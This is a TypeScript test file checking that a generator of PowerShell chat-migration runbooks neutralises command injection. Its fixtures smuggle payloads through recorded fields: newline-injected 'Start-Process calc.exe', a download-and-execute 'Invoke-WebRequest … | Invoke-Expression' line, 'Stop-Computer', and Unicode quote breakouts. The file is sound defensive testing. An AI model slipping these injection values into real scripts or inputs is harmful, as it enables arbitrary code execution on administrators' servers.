import { type MigratePool, type MigrationPlan, planMigration, psComment, psString, runbookOf, stepCmdlets } from '../../src/domain/migration';
import { foldTopology } from '../../src/domain/topology';
import { grammarView, payloadInert } from '../support/powershell-grammar';
import { runbookProblems, shapeOf, statements, tokenize } from '../support/powershell-tokens';
import { fqdn, seed } from './fixtures';

const ID = '0b7e4f6c-4d1a-8f3e-9c2b-5a6d7e8f9a0b';
const MIGRATE: MigratePool = { type: 'MigratePool', legacyPoolFqdn: fqdn('gc.contoso.com'), targetPoolFqdn: fqdn('pcpool.contoso.com'), reason: 'CHG-7' };

function plan(extra: Partial<MigratePool> = {}): MigrationPlan {
  return planMigration({ ...MIGRATE, ...extra }, ID, foldTopology(seed), null);
}

/** The values PowerShell reads from the runbook's verbatim strings, in order. */
function stringValues(source: string): string[] {
  return tokenize(source)
    .filter((t) => t.kind === 'string')
    .map((t) => t.value!);
}

// The attack of the report: commands on lines of their own, through a reason and a category.
const REASON_ATTACK = 'CHG-1042 migration window\r\nStart-Process calc.exe\r\n#';
const CATEGORY_ATTACK = 'Eng/Platform\r\nInvoke-WebRequest http://127.0.0.1:9/x | Invoke-Expression\r\n#';
const PAYLOADS = ['Start-Process calc.exe', 'Invoke-WebRequest http://127.0.0.1:9/x', 'Invoke-Expression', 'Stop-Computer'];
// Each of PowerShell's single-quote characters, used to end the string early.
const QUOTES = ["'", '\u2018', '\u2019', '\u201a', '\u201b'];
const breakOut = (quote: string): string => `x${quote}; Stop-Computer; ${quote}`;

describe('the test tokenizer reads PowerShell as PowerShell does', () => {
  it('ends a verbatim string at any of the five single-quote characters and reads two in a row as one', () => {
    for (const quote of QUOTES) {
      expect(tokenize(`'a${quote}${quote}b'`).map((t) => [t.kind, t.value])).toEqual([['string', `a${quote}b`]]);
      // One alone ends the string: what follows is code.
      expect(tokenize(`'a${quote}; Stop-Computer; ${quote}x'`).map((t) => t.kind)).toEqual(['string', 'punct', 'word', 'punct', 'string']);
    }
  });

  it('ends a line comment at CR or LF only, and finds what a naive runbook lets through', () => {
    expect(tokenize('# a\u2028b\u0085c').map((t) => t.kind)).toEqual(['comment']);
    expect(tokenize('# a\rStart-Process calc.exe').map((t) => t.kind)).toEqual(['comment', 'newline', 'word', 'word']);
    // The runbook as it was written before: the reason after "# ", the file name with only ' doubled.
    const naive = [`# Reason: ${REASON_ATTACK}`, `Import-CsPersistentChatData -DBInstance 'sql' -FileName '${breakOut('\u2019')}'`].join('\r\n');
    const problems = runbookProblems(naive, PAYLOADS);
    expect(problems).toEqual(
      expect.arrayContaining([expect.stringContaining('"Start-Process calc.exe" at'), expect.stringContaining('"Stop-Computer" at'), expect.stringContaining('statement of no known form')]),
    );
  });
});

describe('R20: the runbook is data PowerShell cannot run, whatever was recorded', () => {
  it('keeps the reason and the categories of the report in comments, every line prefixed', () => {
    const p = plan({ reason: REASON_ATTACK, categories: ['Eng', CATEGORY_ATTACK] });
    const runbook = runbookOf(p);
    expect(runbookProblems(runbook, PAYLOADS)).toEqual([]);
    expect(runbook).toContain('# Reason: CHG-1042 migration window\r\n# Start-Process calc.exe\r\n# #\r\n');
    expect(runbook).toContain('\r\n# Invoke-WebRequest http://127.0.0.1:9/x | Invoke-Expression\r\n');
    // Every line is blank, a comment, or a statement of a documented form.
    for (const line of runbook.split('\r\n')) {
      if (line === '' || line.startsWith('#')) continue;
      expect(runbookProblems(line)).toEqual([]);
    }
  });

  it.each(QUOTES.map((q) => [`U+${q.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`, q]))(
    'keeps the export file, scope and display name inside their strings when they hold %s',
    (_name, quote) => {
      const p = plan({ exportFileName: `C:\\x\\${breakOut(quote)}.zip`, exportScope: `Eng, ${breakOut(quote)}`, endpointDisplayName: breakOut(quote) });
      const runbook = runbookOf(p);
      expect(runbookProblems(runbook, PAYLOADS)).toEqual([]);
      // PowerShell reads back exactly the values recorded.
      const values = stringValues(runbook);
      expect(values).toContain(`C:\\x\\${breakOut(quote)}.zip`);
      expect(values).toContain(breakOut(quote));
      expect(values).toContain('Eng');
    },
  );

  it('splits free text on every line terminator and shows controls escaped, so no block comment or escape sequence gets through', () => {
    const reason = 'a\u0085b\u2028c\u2029d\u000be\u000cf\r<# hidden\n#> Start-Process calc.exe\n\u001b[31mred\u0007 \u202egnp.exe \u009b2J';
    const lines = psComment(reason);
    expect(lines).toEqual(['# a', '# b', '# c', '# d', '# e', '# f', '# <# hidden', '# #> Start-Process calc.exe', '# \\x1b[31mred\\x07 \\u{202e}gnp.exe \\x9b2J']);
    const runbook = runbookOf(plan({ reason }));
    expect(runbookProblems(runbook, PAYLOADS)).toEqual([]);
    expect(runbook).not.toMatch(/[\u0000-\u0009\u000b-\u000c\u000e-\u001f\u007f-\u009f\u2028\u2029\u202e]/);
    expect(tokenize(runbook).filter((t) => t.kind === 'comment' && t.text.startsWith('<#'))).toEqual([]);
  });

  it('warns, with the value shown escaped, when a string recorded before the input rule holds control characters', () => {
    const runbook = runbookOf(plan({ endpointDisplayName: 'Chat\u001b[31m\r\nStart-Process calc.exe' }));
    expect(runbook).toContain('# WARNING: the recorded endpoint display name holds control or invisible characters; check it before running: Chat\\x1b[31m\\r\\nStart-Process calc.exe\r\n');
    expect(runbookProblems(runbook, PAYLOADS)).toEqual([]);
    expect(stringValues(runbook)).toContain('Chat\u001b[31m\r\nStart-Process calc.exe');
  });

  it('writes every value through one quoting: verbatim strings with every single-quote character doubled', () => {
    expect(psString("O'Brien \u2018x\u2019 \u201ay\u201b")).toBe("'O''Brien \u2018\u2018x\u2019\u2019 \u201a\u201ay\u201b\u201b'");
    expect(psString('$(Stop-Computer) `n "x"')).toBe('\'$(Stop-Computer) `n "x"\'');
    expect(tokenize(psString('$(Stop-Computer)')).map((t) => t.kind)).toEqual(['string']);
  });
});

/** The commands a runbook may invoke: the cmdlets of its documented forms. */
const RUNBOOK_COMMANDS = new Set([
  'Invoke-Command',
  'Get-Service',
  'Stop-Service',
  'Start-Service',
  'Export-CsPersistentChatData',
  'Import-CsPersistentChatData',
  'Stop-CsWindowsService',
  'Start-CsWindowsService',
  'Disable-CsUser',
  'New-CsPersistentChatEndpoint',
  'Get-CsPersistentChatEndpoint',
  'Get-CsPersistentChatState',
]);

describe('R20: the PowerShell grammar (tree-sitter) reads the runbook the same way', () => {
  it('parses without error, invokes only the runbook\'s cmdlets, and holds every attack in a comment or a string', async () => {
    const runbook = runbookOf(
      plan({ reason: REASON_ATTACK, categories: ['Eng', CATEGORY_ATTACK], exportFileName: "C:\\x\\a'; Stop-Computer; 'b.zip", exportScope: 'Eng, Sales', endpointDisplayName: "it's" }),
    );
    const view = await grammarView(runbook);
    expect(view.errors).toEqual([]);
    expect(view.commands.filter((name) => !RUNBOOK_COMMANDS.has(name))).toEqual([]);
    expect(view.commands).toContain('Import-CsPersistentChatData');
    for (const payload of PAYLOADS) expect([payload, payloadInert(runbook, view, payload)]).toEqual([payload, true]);
  });

  it('sees the attack of the report in a naive runbook', async () => {
    const naive = `# Reason: ${REASON_ATTACK}\r\n`;
    const view = await grammarView(naive);
    expect(view.commands).toContain('Start-Process');
    expect(payloadInert(naive, view, 'Start-Process calc.exe')).toBe(false);
  });
});

describe('R20: each runbook line is a form its cmdlet page documents', () => {
  it('has only statements of the documented forms, inverses included', () => {
    const runbook = runbookOf(plan({ exportScope: 'Eng, Sales', endpointDisplayName: 'Legacy chat' }));
    expect(runbookProblems(runbook)).toEqual([]);
    expect(statements(tokenize(runbook)).map(shapeOf)).toContain("Export-CsPersistentChatData -DBInstance S -FileName S -Level S -Scope S , S");
  });

  it('gives -Scope a list of category names, not one string', () => {
    expect(stepCmdlets(plan({ exportScope: 'Eng,Sales' }), 2).run[0]).toMatch(/ -Scope 'Eng', 'Sales'$/);
    expect(stepCmdlets(plan({ exportScope: 'Eng' }), 2).run[0]).toMatch(/ -Scope 'Eng'$/);
  });

  it('stops the target pool\'s Persistent Chat services and backs up its database before the import, as the migration guide says', () => {
    const run = stepCmdlets(plan(), 3).run.filter((line) => !line.startsWith('#'));
    expect(run).toEqual([
      "Stop-CsWindowsService -Name 'RTCCHAT' -ComputerName 'pc1.contoso.com'",
      "Stop-CsWindowsService -Name 'RTCCHAT' -ComputerName 'pc2.contoso.com'",
      "Export-CsPersistentChatData -DBInstance '<<TARGET-SQL-INSTANCE>>' -FileName 'C:\\GroupChatMigration\\pcpool.contoso.com-before-import-0b7e4f6c.zip'",
      "Import-CsPersistentChatData -DBInstance '<<TARGET-SQL-INSTANCE>>' -FileName 'C:\\GroupChatMigration\\gc.contoso.com-0b7e4f6c.zip' -WhatIf",
      "Import-CsPersistentChatData -DBInstance '<<TARGET-SQL-INSTANCE>>' -FileName 'C:\\GroupChatMigration\\gc.contoso.com-0b7e4f6c.zip'",
    ]);
  });

  it('says plainly that Disable-CsUser releases the URI but does not delete the account', () => {
    const { run } = stepCmdlets(plan(), 4);
    expect(run.at(-1)).toBe("Disable-CsUser -Identity 'sip:ocschat@contoso.com' -Confirm:$false");
    expect(run.slice(0, -1).join(' ')).toMatch(/does NOT delete the Active Directory account/);
  });

  it('asks Get-CsPersistentChatState for the pool as its page shows: PersistentChatServer:<pool>', () => {
    expect(stepCmdlets(plan(), 7).run).toContain("Get-CsPersistentChatState -Identity 'PersistentChatServer:pcpool.contoso.com'");
  });
});
